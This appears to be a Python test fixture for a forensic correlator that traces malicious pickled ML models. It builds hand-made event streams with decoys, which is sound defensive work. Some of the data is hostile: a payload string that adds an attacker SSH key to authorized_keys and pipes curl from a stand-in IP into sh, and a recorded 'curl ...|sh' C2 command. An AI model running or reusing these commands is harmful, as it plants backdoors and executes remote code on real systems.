"""Hand-built event streams for the correlator: one dead-box and one live incident, with decoys.

Events are built the way the parsers describe facts (docs/events.md), so the tests pin what the
correlator links and, as importantly, what it must not link."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from mlsleuth.events import Category, Event, TimestampQuality

T0 = datetime(2026, 11, 10, 9, 0, 0, tzinfo=UTC)
HUB = "/home/alice/.cache/huggingface/hub"
EVIL = "evil-org/bert-tiny"
EVIL_DIR = f"{HUB}/models--evil-org--bert-tiny"
EVIL_SHA = "a" * 64
EVIL_REV = "1" * 40
BENIGN = "sentence-transformers/all-MiniLM-L6-v2"
BENIGN_DIR = f"{HUB}/models--sentence-transformers--all-MiniLM-L6-v2"
BENIGN_SHA = "b" * 64
PAYLOAD = "os.system('echo ssh-ed25519 AAAAC3Nz attacker >> ~/.ssh/authorized_keys; curl -s http://203.0.113.7/x | sh')"


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def ev(t: float, category: Category, message: str, **kw) -> Event:
    kw.setdefault("host", "ml-ws-01")
    kw.setdefault("source", "test")
    kw.setdefault("timestamp_desc", "Test Time")
    kw.setdefault("evidence", f"fs/test#L{int(t)}-{category}")
    return Event(timestamp=at(t), category=category, message=message, **kw)


def download(t: float, repo: str, repo_dir: str, sha: str, name: str = "pytorch_model.bin",
             user: str = "alice", host: str = "ml-ws-01") -> list[Event]:
    snap = f"{repo_dir}/snapshots/{EVIL_REV}/{name}"
    return [ev(t, Category.MODEL_DOWNLOAD, f"{repo}: {name} downloaded", source="hf_cache",
               timestamp_desc="Blob Modified", user=user, host=host, model_repo=f"models/{repo}",
               revision=EVIL_REV, file_path=snap, sha256=sha,
               evidence=f"fs{repo_dir}/blobs/{sha}#stat")]


def verdict(t: float, path: str, sha: str, verdict: str, message: str, host: str = "ml-ws-01",
            indicators: list[str] | None = None) -> Event:
    return ev(t, Category.FINDING, message, source="model_scan", timestamp_desc="Blob Modified",
              host=host, file_path=path, sha256=sha, verdict=verdict,
              extra={"indicators": indicators or []}, evidence=f"parts{path}/archive/data.pkl#0")


def deadbox_events() -> list[Event]:
    """Alice loads a malicious repo from a notebook; its pickle writes authorized_keys.

    Decoys: a benign download in the same minute (also loaded, then an unrelated .bashrc edit by
    alice after it), a benign pip install in the same hour, bob's persistence write in the window.
    """
    evil_file = f"{EVIL_DIR}/snapshots/{EVIL_REV}/pytorch_model.bin"
    events = [
        *download(0, EVIL, EVIL_DIR, EVIL_SHA),
        verdict(0, evil_file, EVIL_SHA, "malicious", f"pickle calls posix.system: {PAYLOAD}",
                indicators=[PAYLOAD]),
        *download(20, BENIGN, BENIGN_DIR, BENIGN_SHA, name="model.safetensors"),
        verdict(20, f"{BENIGN_DIR}/snapshots/{EVIL_REV}/model.safetensors", BENIGN_SHA, "clean",
                "safetensors header valid"),
        ev(30, Category.COMMAND, f'model = torch.load("{evil_file}")', source="notebook",
           timestamp_desc="Cell Executed", user="alice", file_path="/home/alice/work/eval.ipynb",
           cmdline=f'model = torch.load("{evil_file}")', evidence="fs/home/alice/work/eval.ipynb#/cells/2"),
        ev(35, Category.COMMAND, f'st = SentenceTransformer("{BENIGN}")', source="notebook",
           timestamp_desc="Cell Executed", user="alice", file_path="/home/alice/work/eval.ipynb",
           cmdline=f'st = SentenceTransformer("{BENIGN}")', evidence="fs/home/alice/work/eval.ipynb#/cells/3"),
        ev(42, Category.PERSISTENCE, "authorized_keys modified", source="persistence",
           timestamp_desc="Content Modification Time", user="alice",
           file_path="/home/alice/.ssh/authorized_keys", evidence="bodyfile.txt#L88",
           timestamp_quality=TimestampQuality.FILE_TIME),
        # bob edits his own crontab in the same window: another account, not linked
        ev(60, Category.PERSISTENCE, "crontab modified", source="persistence",
           timestamp_desc="Content Modification Time", user="bob",
           file_path="/var/spool/cron/crontabs/bob", evidence="bodyfile.txt#L90"),
        # benign pip install in the same hour, default index
        ev(1800, Category.PACKAGE_INSTALL, "requests 2.32.3 installed", source="dist_info",
           timestamp_desc="Package Installed", user="alice", package="requests", version="2.32.3",
           file_path="/home/alice/.local/lib/python3.11/site-packages/requests-2.32.3.dist-info",
           evidence="fs/home/alice/.local/lib/python3.11/site-packages/requests-2.32.3.dist-info/RECORD#stat"),
        ev(1810, Category.COMMAND, "import requests", source="ipython_history", user="alice",
           timestamp_desc="Command Executed", cmdline="import requests",
           timestamp_quality=TimestampQuality.ESTIMATED, evidence="fs/home/alice/.ipython/history.sqlite#1:4"),
        ev(1815, Category.PERSISTENCE, ".bashrc modified", source="persistence",
           timestamp_desc="Content Modification Time", user="alice", file_path="/home/alice/.bashrc",
           evidence="bodyfile.txt#L91"),
    ]
    return events


def live_events() -> list[Event]:
    """A kernel (pid 4242) holds a suspicious model open; its child shell runs curl to a C2 host."""
    host = "gpu-02"
    repo_dir = "/home/carol/.cache/huggingface/hub/models--acme--sentiment"
    path = f"{repo_dir}/snapshots/{EVIL_REV}/model.pkl"
    sha = "c" * 64
    return [
        *download(0, "acme/sentiment", repo_dir, sha, name="model.pkl", user="carol", host=host),
        verdict(0, path, sha, "suspicious", "pickle imports builtins.getattr", host=host),
        ev(100, Category.PROCESS, "python3 -m ipykernel_launcher started", source="live_processes",
           timestamp_desc="Process Started", host=host, user="carol", pid=4242, ppid=1000,
           process="python3", cmdline="python3 -m ipykernel_launcher -f /run/user/1000/kernel-1.json"),
        ev(160, Category.FILE, f"pid 4242 holds {path} open", source="live_open_files",
           timestamp_desc="Open File Observed", host=host, user="carol", pid=4242, file_path=path),
        ev(130, Category.PROCESS, "sh started", source="live_processes", timestamp_desc="Process Started",
           host=host, user="carol", pid=4300, ppid=4242, process="sh", cmdline="sh -c curl http://198.51.100.9/a|sh"),
        ev(131, Category.PROCESS, "curl started", source="live_processes", timestamp_desc="Process Started",
           host=host, user="carol", pid=4301, ppid=4300, process="curl", cmdline="curl http://198.51.100.9/a"),
        ev(160, Category.NETWORK, "curl -> 198.51.100.9:80", source="live_connections",
           timestamp_desc="Connection Observed", host=host, user="carol", pid=4301,
           remote_addr="198.51.100.9:80", extra={"status": "ESTABLISHED"}),
        # decoy: an unrelated process of another parent, same minute
        ev(132, Category.PROCESS, "bash started", source="live_processes", timestamp_desc="Process Started",
           host=host, user="dave", pid=5000, ppid=900, process="bash", cmdline="bash"),
        ev(160, Category.NETWORK, "kernel -> hub", source="live_connections",
           timestamp_desc="Connection Observed", host=host, user="carol", pid=4242,
           remote_addr="18.239.50.3:443", extra={"status": "ESTABLISHED"}),
    ]
